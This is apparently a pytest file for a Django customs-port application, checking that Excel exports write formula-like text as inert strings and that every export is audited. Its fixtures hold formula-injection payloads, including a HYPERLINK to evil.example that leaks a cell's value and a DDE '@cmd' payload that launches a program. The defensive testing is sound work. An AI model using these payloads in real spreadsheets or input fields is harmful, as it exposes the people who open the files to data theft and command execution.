"""Every Excel export (operators, cards, filings, applications; the API's `*.xlsx` and the screens'
`?export=xlsx`) writes text as text: a name that looks like a formula (=, +, -, @, or a tab or CR before
one) is a plain string cell marked with Excel's quotePrefix, never a formula, and reads back exactly.
Every export is audited: who, which list, the filters, how many rows.
"""

import io
import zipfile
from types import SimpleNamespace
from xml.etree import ElementTree as ET

import pytest
from django.test import Client
from openpyxl import load_workbook

from eport.applications.models import Application
from eport.audit.models import AuditEvent
from eport.cards.models import Card
from eport.enterprises.models import Enterprise
from eport.operators.models import Operator
from tests import factories as f
from tests.api.helpers import Api

pytestmark = pytest.mark.django_db

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

ENTERPRISE = "\t=1+2 深圳公式测试有限公司"
LEGAL_REP = "-2+3"
OPERATOR = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
OPERATOR_CR = "\r=SUM(1,2)"
JOB_TITLE = "+报关员"
EMAIL = "@SUM(A1)"
PHONE = "=1-1"
PLAIN = " 普通 文本 "  # spaces kept
ERROR_CODE = "#N/A"  # openpyxl would write an error cell


@pytest.fixture
def planted():
    return plant()


def plant():
    """An enterprise in the network whose name, legal representative and operators look like formulas,
    with a legal card, two operator cards and an application; the sub-centre that serves it."""
    ra = f.ra_officer()
    e = f.enterprise_in_network()
    Enterprise.objects.filter(pk=e.pk).update(name=ENTERPRISE, legal_rep_name=LEGAL_REP)
    e.refresh_from_db()
    legal = f.make_card("legal", e, ra=ra).card
    ops = [
        f.operator(e, name=OPERATOR),
        f.operator(e, name=OPERATOR_CR),
        f.operator(e, name=PLAIN),
        f.operator(e, name=ERROR_CODE),
    ]
    Operator.objects.filter(pk=ops[0].pk).update(job_title=JOB_TITLE, email=EMAIL, phone=PHONE)
    for op in ops:
        f.make_card("operator", e, ra=ra, operator_no=op.operator_no)
    Card.objects.filter(pk=legal.pk).update(must_change_pin=False)
    Application.objects.create(
        kind="operator_declaration", subject_key="x", enterprise=e, data={"operator_no": ops[0].operator_no}
    )
    return SimpleNamespace(e=e, ra=ra, legal=legal.user)


OPERATORS = {ENTERPRISE, OPERATOR, OPERATOR_CR, PLAIN, ERROR_CODE, JOB_TITLE, EMAIL, PHONE}
CARDS = {ENTERPRISE, LEGAL_REP, OPERATOR, OPERATOR_CR, PLAIN, ERROR_CODE}
FILINGS = {LEGAL_REP, OPERATOR, OPERATOR_CR, PLAIN, ERROR_CODE}
APPLICATIONS = {ENTERPRISE}
RISKY = tuple("=+-@\t\r")


def read_back(resp) -> set[str]:
    """The .xlsx read twice: as raw XML (no formula anywhere, every cell an inline string with quotePrefix
    where it starts like a formula) and with openpyxl (every cell a string, the same values)."""
    assert resp.status_code == 200, (resp.status_code, resp.content[:300])
    assert resp["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    z = zipfile.ZipFile(io.BytesIO(resp.content))
    for name in z.namelist():
        if name.endswith(".xml"):
            root = ET.fromstring(z.read(name))
            assert (
                root.find(".//m:f", NS) is None and b"<f>" not in z.read(name) and b"<f " not in z.read(name)
            ), name
    xfs = ET.fromstring(z.read("xl/styles.xml")).findall("m:cellXfs/m:xf", NS)
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
    assert len(sheets) == 1
    raw = set()
    for c in ET.fromstring(z.read(sheets[0])).iter(f"{{{NS['m']}}}c"):
        if c.find("m:is", NS) is None:
            assert c.find("m:v", NS) is None, ET.tostring(c)  # an empty cell, else a string
            continue
        assert c.get("t") == "inlineStr", ET.tostring(c)
        value = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
        if value.startswith(RISKY):
            assert xfs[int(c.get("s"))].get("quotePrefix") == "1", value
        raw.add(value)

    wb = load_workbook(io.BytesIO(resp.content))
    assert len(wb.worksheets) == 1
    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" and isinstance(c.value, str) for c in cells), [
        (c.coordinate, c.data_type, c.value) for c in cells if c.data_type != "s"
    ]
    assert all(c.quotePrefix for c in cells if c.value.startswith(RISKY))
    values = {c.value for c in cells}
    assert values == raw
    return values


def test_every_export_writes_formula_like_text_as_text(planted):
    ra_api, legal_api = Api(planted.ra), Api(planted.legal)
    ra_web, legal_web = Client(), Client()
    ra_web.force_login(planted.ra)
    legal_web.force_login(planted.legal)
    exports = [
        (ra_api, "/operators.xlsx", OPERATORS),
        (ra_api, "/cards.xlsx", CARDS),
        (legal_api, "/operators.xlsx", OPERATORS),
        (legal_api, "/cards.xlsx", CARDS),
        (legal_api, "/filings/cards.xlsx", FILINGS),
        (legal_api, "/applications.xlsx", APPLICATIONS),
        (ra_web, "/cards/", CARDS),
        (legal_web, "/cards/", CARDS),
        (legal_web, "/operators/", OPERATORS),
        (legal_web, "/filings/permissions/", FILINGS),
        (legal_web, "/status/", APPLICATIONS),
    ]
    for client, path, planted_values in exports:
        if isinstance(client, Api):
            resp = client.get(path)
        else:
            resp = client.get(path, {"export": "xlsx"})
        missing = planted_values - read_back(resp)
        assert not missing, (path, missing)


def test_a_new_enterprises_entry_list_exports_its_name_as_text():
    user = f.cardless(name="@cmd|' /C calc'!A0")
    f.draft_entry(user)
    c = Client()
    c.force_login(user)
    assert "@cmd|' /C calc'!A0" in read_back(c.get("/entries/", {"export": "xlsx"}))
    assert "@cmd|' /C calc'!A0" in read_back(c.get("/status/", {"export": "xlsx"}))


def test_every_export_is_audited_with_actor_list_filters_and_rows(planted):
    legal_api = Api(planted.legal)
    ra_web = Client()
    ra_web.force_login(planted.ra)
    before = AuditEvent.objects.count()
    assert legal_api.get("/operators.xlsx", {"name": "SUM", "status": ""}).status_code == 200
    assert ra_web.get("/cards/", {"export": "xlsx", "holder_name": "SUM"}).status_code == 200
    assert legal_api.get("/filings/cards.xlsx").status_code == 200
    events = list(AuditEvent.objects.filter(action="export").order_by("id"))
    assert AuditEvent.objects.count() == before + 3
    ops, cards, filings = events
    assert (ops.actor, ops.object_id, ops.after) == (
        planted.legal,
        "operators",
        {"list": "operators", "filters": {"name": "SUM"}, "rows": 1},
    )
    assert (cards.actor, cards.object_id, cards.after) == (
        planted.ra,
        "cards",
        {"list": "cards", "filters": {"holder_name": "SUM"}, "rows": 1},
    )
    assert (filings.actor, filings.after["filters"], filings.after["rows"]) == (planted.legal, {}, 5)
    assert all(e.ip == "127.0.0.1" for e in events)
    # A refused export (too many rows) writes no file and no export event.
    from django.test import override_settings

    with override_settings(EXPORT_MAX_ROWS=1):
        assert legal_api.get("/cards.xlsx").status_code == 400
    assert AuditEvent.objects.filter(action="export").count() == 3


def test_a_control_character_xml_cannot_hold_is_written_as_excels_escape(planted):
    """Not a 500: Excel shows _x000B_ as the character itself."""
    f.operator(planted.e, name="王\x0b五")
    assert "王_x000B_五" in read_back(Api(planted.legal).get("/operators.xlsx"))


@pytest.mark.parametrize("bad", ["\ufffe", "\uffff"])
def test_a_noncharacter_xml_cannot_hold_is_dropped_and_the_cell_stays_text(planted, bad):
    """U+FFFE, U+FFFF and a lone surrogate are no characters at all (XML 1.0 allows none): one stored in
    any text no longer breaks the export (it was lxml's ValueError, a 500); what is left stays text, even
    when it now starts like a formula."""
    f.operator(planted.e, name="李四" + bad)
    f.operator(planted.e, name=bad + "=1+2")
    values = read_back(Api(planted.legal).get("/operators.xlsx"))
    assert {"李四", "=1+2"} <= values


def test_a_lone_surrogate_is_dropped_from_a_cell():
    """No database stores one, but a value computed in Python may carry it: the cell drops it too."""
    from openpyxl import Workbook

    from eport.exports import _text

    ws = Workbook(write_only=True).create_sheet("x")
    assert _text(ws, "王\ud800五") == "王五"
    assert _text(ws, "\udfff") is None
    cell = _text(ws, "\ud800=SUM(A1)")
    assert cell.value == "=SUM(A1)" and cell.data_type == "s" and cell.quotePrefix


def test_an_express_declaration_with_a_noncharacter_exports(planted):
    """The review's case: a declaration whose 发件人 is "李四\\ufffe", exported by the customs of its 关区."""
    from eport.express import services
    from eport.express.models import Declaration
    from tests.express.helpers import customs, export_body, operator

    made, _api = operator()
    _off, capi = customs()
    body = export_body()
    head = {k: body[k] for k in ("direction", "category", "waybill")}
    services.upload(made.card.user, head, list(enumerate(body["declarations"], 1)), None)
    Declaration.objects.update(party="李四\ufffe")
    assert "李四" in read_back(capi.get("/express/declarations.xlsx"))
